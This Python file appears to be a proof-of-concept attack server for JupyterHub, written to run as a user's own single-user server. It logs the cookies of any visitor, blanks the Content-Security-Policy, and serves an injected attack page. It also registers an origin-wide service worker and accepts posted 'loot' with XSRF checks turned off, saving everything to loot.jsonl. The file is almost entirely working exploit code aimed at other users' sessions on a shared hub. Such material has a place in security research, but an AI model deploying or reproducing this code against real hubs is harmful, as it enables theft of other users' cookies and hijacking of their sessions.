"""A user's server that attacks whoever opens it, and greets its owner on all other paths.

What it gets hold of is appended to `loot.jsonl` in the home: one JSON object per line.
"""

import json
import os
from pathlib import Path
from urllib.parse import urlparse

from jupyterhub.services.auth import HubOAuthCallbackHandler, HubOAuthenticated
from tornado import ioloop, web

PREFIX = os.environ["JUPYTERHUB_SERVICE_PREFIX"]
PAGE = Path(__file__).with_name("attack.html").read_text(encoding="utf-8")


def keep(what: str, value: str) -> None:
    with Path("loot.jsonl").open("a", encoding="utf-8") as file:
        file.write(json.dumps({"what": what, "value": value}) + "\n")


class Attack(web.RequestHandler):
    """Needs no login: a user decides what their own server does."""

    def get(self, mode: str) -> None:
        keep("cookies", self.request.headers.get("Cookie", ""))
        if mode == "end":
            # Chromium deletes the cookies of the whole domain.
            self.set_header("Clear-Site-Data", '"cookies"')
        self.set_header("Content-Security-Policy", "")
        victim = self.get_argument("victim")
        page = PAGE.replace("{{hub}}", self.get_argument("hub")).replace("{{victim}}", victim)
        self.write(page.replace("{{mode}}", mode).replace("{{base}}", PREFIX))


class Worker(web.RequestHandler):
    """A service worker that wants to answer for the whole origin."""

    def get(self) -> None:
        self.set_header("Content-Type", "text/javascript")
        self.set_header("Service-Worker-Allowed", "/")
        self.write("self.addEventListener('fetch', () => {});")


class Loot(web.RequestHandler):
    def check_xsrf_cookie(self) -> None:
        """Everything is welcome."""

    def post(self) -> None:
        found = json.loads(self.request.body)
        keep(found["what"], found["value"])


class Greeting(HubOAuthenticated, web.RequestHandler):
    @web.authenticated
    def get(self) -> None:
        self.write(f"hello {self.get_current_user()['name']}")


address = urlparse(os.environ["JUPYTERHUB_SERVICE_URL"])
application = web.Application(
    [
        (PREFIX + "oauth_callback", HubOAuthCallbackHandler),
        (PREFIX + "(?:files/|lab/)?(attack|end|leave)", Attack),
        (PREFIX + "worker.js", Worker),
        (PREFIX + "loot", Loot),
        (PREFIX + ".*", Greeting),
    ],
    cookie_secret=os.urandom(32),
)
application.listen(address.port, address.hostname)
ioloop.IOLoop.current().start()
